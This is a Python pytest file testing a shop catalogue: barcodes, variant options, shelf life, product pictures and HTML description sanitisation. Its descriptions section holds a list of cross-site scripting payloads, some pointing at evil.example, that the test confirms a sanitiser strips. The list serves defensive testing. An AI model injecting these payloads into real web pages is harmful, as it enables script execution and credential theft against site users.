"""What is said about goods: sections, barcodes, named options, weights, pictures, descriptions."""

import pytest

from groupbuy.adapters.markup_nh3 import Nh3Markup
from groupbuy.application import catalogue
from groupbuy.application.catalogue.facts import HTML_AT_MOST, ProductFacts, SkuFacts
from groupbuy.application.write_path import NoMarkup
from groupbuy.domain.catalogue import (
    Attribute,
    Product,
    Section,
    Variant,
    is_barcode,
    options_disagree,
    sections_of,
    with_section,
)
from groupbuy.domain.kernel import Invalid, Money
from groupbuy.domain.pictures import Picture, Purpose
from tests.support.shelf import create, edit, edit_variant

COLOUR, SIZE = "颜色", "规格"
RED = (Attribute(COLOUR, "红"), Attribute(SIZE, "5 斤"))
BLUE = (Attribute(COLOUR, "蓝"), Attribute(SIZE, "5 斤"))


def sku(number, **said):
    return SkuFacts(f"S{number}", "", Money(3990), stock=1, **said)


def product_of(shop, category, *skus, **said):
    cmd = catalogue.CreateProduct(ProductFacts("P1", "T 恤", **said), category.id, skus)
    return shop.desk.run(shop.merchant_caller(), lambda w: catalogue.create_product(w, cmd))


def refused(field, act, *args, **said):
    with pytest.raises(Invalid) as refusal:
        act(*args, **said)
    assert refusal.value.field == field
    return refusal.value.reason


# --- sections, barcodes, options -------------------------------------------------------------


def test_a_section_is_an_attribute_with_a_name_of_its_own():
    said = with_section((Attribute("甜度", "13"),), Section.ORIGIN, "江西")
    assert said == (Attribute("甜度", "13"), Attribute("产地", "江西"))
    assert sections_of(said) == {Section.ORIGIN: "江西"}
    assert with_section(said, Section.ORIGIN, "") == (Attribute("甜度", "13"),)
    twice = (*said, Attribute("产地", "赣州"))
    assert sections_of(twice)[Section.ORIGIN] == "江西\n赣州"
    assert {each.attribute for each in Section} == {"产地", "口感", "营养", "功能", "卖点"}


@pytest.mark.parametrize(
    "text", ["6901028075763", "4006381333931", "73513537", "036000291452", "10012345678902"]
)
def test_a_barcode_has_the_right_check_digit(text):
    assert is_barcode(text)
    for place in range(len(text)):
        for digit in "0123456789":
            other = text[:place] + digit + text[place + 1 :]
            assert is_barcode(other) is (other == text)


@pytest.mark.parametrize(
    "text", ["", "0", "690102807576", "６９０１０２８０７５７６３", "69010280757a3"]
)
def test_anything_else_is_no_barcode(text):
    assert not is_barcode(text)


def test_variants_name_the_same_options_and_differ_in_them():
    assert options_disagree([RED, BLUE, ()]) == ""
    assert options_disagree([RED, BLUE[:1]]) == "must name the same options in every variant"
    assert options_disagree([RED, RED]) == "must differ between the variants"


def test_named_options_are_told_in_one_line_too(shop, fruit):
    made = product_of(shop, fruit, sku(1, named_options=RED), sku(2, named_options=BLUE))
    assert [v.options for v in made.variants] == ["红 / 5 斤", "蓝 / 5 斤"]
    why = refused("named_options", edit_variant, shop, made, named_options=BLUE)
    assert why == "must differ between the variants"
    more = catalogue.AddVariant(made.product.id, sku(3, named_options=RED[:1]))
    by = shop.merchant_caller()
    refused("named_options", shop.desk.run, by, lambda w: catalogue.add_variant(w, more))
    after = edit_variant(shop, made, named_options=(Attribute(COLOUR, "紫"), RED[1]))
    assert after.variants[0].options == "紫 / 5 斤"


def test_named_options_stand_once_each_and_are_few():
    twice = (Attribute(COLOUR, "红"), Attribute(COLOUR, "蓝"))
    refused("skus.named_options", sku(1, named_options=twice).checked)
    six = tuple(Attribute(f"n{n}", "x") for n in range(6))
    refused("skus.named_options", sku(1, named_options=six).checked)
    refused("skus.named_options.value", sku(1, named_options=(Attribute("n", " "),)).checked)


def test_a_variant_has_a_barcode_a_weight_and_a_mark_below_which_it_is_scarce(shop, fruit):
    facts = {"barcode": " 6901028075763 ", "grams": 2_600, "low_stock": 5}
    made = product_of(shop, fruit, sku(1, **facts)).variants[0]
    assert (made.barcode, made.grams, made.low_stock) == ("6901028075763", 2_600, 5)
    refused("skus.barcode", sku(1, barcode="6901028075764").checked)
    refused("skus.grams", sku(1, grams=-1).checked)
    refused("skus.low_stock", sku(1, low_stock=-1).checked)


def test_what_is_left_out_of_an_edit_stays(shop, fruit):
    made = product_of(shop, fruit, sku(1, barcode="73513537", grams=9, low_stock=2))
    after = edit_variant(shop, made, price=Money(5000)).variants[0]
    assert (after.barcode, after.grams, after.low_stock) == ("73513537", 9, 2)
    gone = edit_variant(shop, made, barcode="", grams=0).variants[0]
    assert (gone.barcode, gone.grams, gone.low_stock) == ("", 0, 2)


def test_goods_keep_for_so_many_days(shop, fruit):
    made = create(shop, fruit, shelf_life_days=14)
    assert made.product.shelf_life_days == 14
    assert edit(shop, made, name="血橙").product.shelf_life_days == 14
    assert edit(shop, made, shelf_life_days=0).product.shelf_life_days == 0
    refused("shelf_life_days", create, shop, fruit, 2, shelf_life_days=-1)


# --- descriptions ----------------------------------------------------------------------------

CLEAN = Nh3Markup().clean
PIC = "pic_01JC3F8E1PZ7W5N0R4T6Y8B2DM"
ATTACKS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img src="//evil.example/t.gif"><img src="https://evil.example/t.gif">
<img src="data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+">
<svg/onload=alert(1)><svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<a href="javascript:alert(1)">x</a><a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a><a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">x</a>
<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="http://evil.example">x</a>
<a href="https://ok.example" target=_blank onclick=alert(1)>x</a>
<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<form action="https://evil.example"><input name=password><button formaction=javascript:x>go</button>
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css"><style>@import 'https://evil.example'</style>
<p style="background:url(javascript:alert(1))" class=x id=y onmouseover=alert(1)>x</p>
<div><details open ontoggle=alert(1)><summary>x</summary></details></div>
<video src=x onerror=alert(1)><audio src=x onerror=alert(1)><source onerror=alert(1)></video>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<!--<img title="--><img src=x onerror=alert(1)>"--><![CDATA[<script>alert(1)</script>]]>
<template><script>alert(1)</script></template><p><plaintext><script>alert(1)</script>
<img alt="x&quot; onerror=&quot;alert(1)" src=x>
<td background="javascript:alert(1)" colspan="1 onload=x">x</td>
"""
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onbegin", "ontoggle")


class Seen:
    """What a browser would make of a text, by the parser of the standard library."""

    def __init__(self, html):
        from html.parser import HTMLParser

        self.tags, self.attributes = set(), []
        seen = self

        class Reader(HTMLParser):
            def handle_starttag(self, tag, attrs):
                seen.tags.add(tag)
                seen.attributes += [(tag, name, value or "") for name, value in attrs]

            def handle_decl(self, decl):
                seen.tags.add(f"!{decl}")

            def handle_pi(self, data):
                seen.tags.add(f"?{data}")

        Reader(convert_charrefs=True).feed(html)


@pytest.mark.parametrize("attack", [*ATTACKS.strip().splitlines(), ATTACKS])
def test_nothing_that_acts_survives_in_a_description(attack):
    seen = Seen(CLEAN(attack))
    allowed = {"p", "a", "b", "img", "table", "tbody", "tr", "td", "th"}
    assert seen.tags <= allowed
    for tag, name, value in seen.attributes:
        assert (tag, name) in {
            ("a", "href"),
            ("a", "rel"),
            ("img", "alt"),
            ("img", "loading"),
        }, (tag, name)
        if name == "href":
            assert value == "https://ok.example"
        assert not name.startswith("on")
    assert CLEAN(CLEAN(attack)) == CLEAN(attack)


def test_plain_marks_tables_links_and_our_own_pictures_stay():
    html = (
        f'<h2>赣南<b>脐橙</b></h2><p>甜<br>多汁</p><img src="{PIC}" alt="果园">'
        '<table><tbody><tr><td colspan="2">糖</td><td>13%</td></tr></tbody></table>'
        '<ul><li>一</li></ul><a href="https://ok.example/a?b=1">证书</a><a href="/campaign">团</a>'
    )
    clean = CLEAN(html)
    assert f'src="/media/{PIC}/1280.webp"' in clean
    assert 'loading="lazy"' in clean
    for part in ("<h2>赣南<b>脐橙</b></h2>", '<td colspan="2">', "<ul><li>一</li></ul>"):
        assert part in clean
    assert 'href="https://ok.example/a?b=1"' in clean
    assert 'href="/campaign"' in clean
    assert clean.count('rel="nofollow noopener noreferrer"') == 2
    assert Nh3Markup().plain(clean) == "赣南脐橙\n甜\n多汁\n糖 13%\n一\n证书团"


def test_deep_and_broken_marks_are_read_to_their_end():
    assert "x" in CLEAN("<b><i><p>" * 8_000 + "x")
    assert CLEAN("<" * 20_000 + "x").count("&lt;") == 19_999
    assert CLEAN("a\0b&#0;&#x1F600;&bogus;") == CLEAN(CLEAN("a\0b&#0;&#x1F600;&bogus;"))


@pytest.mark.parametrize(
    "text", ["<p>甜 & 多汁</p>", "1 < 2 > 0", "&lt;b&gt;", "<script>x</script>"]
)
def test_without_a_library_no_mark_survives(text):
    clean = NoMarkup().clean(text)
    assert "<" not in clean
    assert NoMarkup().clean(clean) == clean


@pytest.fixture
def marked(shop):
    """The shop with the real library."""
    from attrs import evolve

    shop.kit = evolve(shop.kit, markup=Nh3Markup())
    shop.desk = evolve(shop.desk, kit=shop.kit)
    return shop


def test_a_description_is_kept_safe_and_as_text_for_search(marked, fruit):
    html = "<p>很<b>甜</b></p><script>alert(1)</script>"
    made = create(marked, fruit, description_html=html, description="left out")
    assert made.product.description_html == "<p>很<b>甜</b></p>"
    assert made.product.description == "很甜"
    assert edit(marked, made, name="血橙").product.description_html
    plain = edit(marked, made, description="只有字").product
    assert (plain.description, plain.description_html) == ("只有字", "")
    again = edit(marked, made, description_html="<h2>又甜</h2>").product
    assert again.description == "又甜"
    none = edit(marked, made, description_html="").product
    assert (none.description, none.description_html) == ("又甜", "")


def test_a_description_has_an_end(marked, fruit):
    long = "<p>x</p>" * (HTML_AT_MOST // 8 + 1)
    refused("description_html", create, marked, fruit, description_html=long)
    grows = "<p>" + "&" * (HTML_AT_MOST - 100)
    refused("description_html", create, marked, fruit, description_html=grows)


# --- pictures of goods -----------------------------------------------------------------------


def picture(shop, number, merchant_id=None):
    key = f"pic_{number:026d}"
    whose = shop.merchant_caller().merchant_id if merchant_id is None else merchant_id
    now = shop.clock.now()
    return shop.store(
        Picture(key, Purpose.PRODUCT, "usr_staff", now, (), whose, loose_since=now)
    ).id


def used(shop, key):
    return shop.get(Picture, key).used_by


def test_a_product_holds_the_pictures_it_shows(marked, fruit):
    one, two, three = (picture(marked, n) for n in (1, 2, 3))
    html = f'<p>x</p><img src="/media/{three}/750.webp">'
    made = create(
        marked,
        fruit,
        pictures=(f"/media/{one}/320.webp", two, "https://cdn.example.com/a.jpg"),
        description_html=html,
    )
    assert made.product.pictures == (one, two, "https://cdn.example.com/a.jpg")
    assert {used(marked, key) for key in (one, two, three)} == {(made.product.id,)}
    edit(marked, made, pictures=(two,), description="甜")
    assert [used(marked, key) for key in (one, two, three)] == [(), (made.product.id,), ()]
    assert marked.get(Picture, one).loose_since == marked.clock.now()


def test_a_product_shows_no_picture_of_somebody_else(marked, fruit):
    for key in ("pic_01JC3F8E1PZ7W5N0R4T6Y8B2DM", picture(marked, 7, "mch_else")):
        refused("pictures", create, marked, fruit, pictures=(key,))
        html = f'<img src="/media/{key}/750.webp">'
        refused("pictures", create, marked, fruit, description_html=html)
    assert marked.all(Product) == marked.all(Variant) == []
    shared = picture(marked, 8, "")
    assert create(marked, fruit, pictures=(shared,)).product.pictures == (shared,)
